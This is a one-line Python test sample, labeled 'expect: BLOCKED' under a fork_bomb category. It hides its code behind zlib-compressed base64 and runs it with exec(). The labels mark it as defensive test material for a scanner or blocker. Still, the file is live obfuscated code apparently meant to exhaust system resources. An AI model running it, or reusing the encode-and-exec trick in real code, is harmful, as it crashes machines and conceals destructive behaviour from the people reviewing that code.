# expect: BLOCKED category: fork_bomb variant-of: risky/fork_bomb/multiprocessing_bomb.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJx1j7EKwzAMRHd/xdEuyZIPKOQfCu0uTKMkAls2ltP8fh3SqdCb7oF0x13xqL5UQy7pxWZsEIVXsE6hMUJKufEE5TcX7F7a8ZwK6spxcBJzKhVxC1W+EaKLcxPPsCza9TeHpn2VwHiWjU8+lL2ZczKDSH1kIowjLkTRixJd/j/+tA3303ZtycJ1PHr7wY5dXf8BVqlKDA==')))
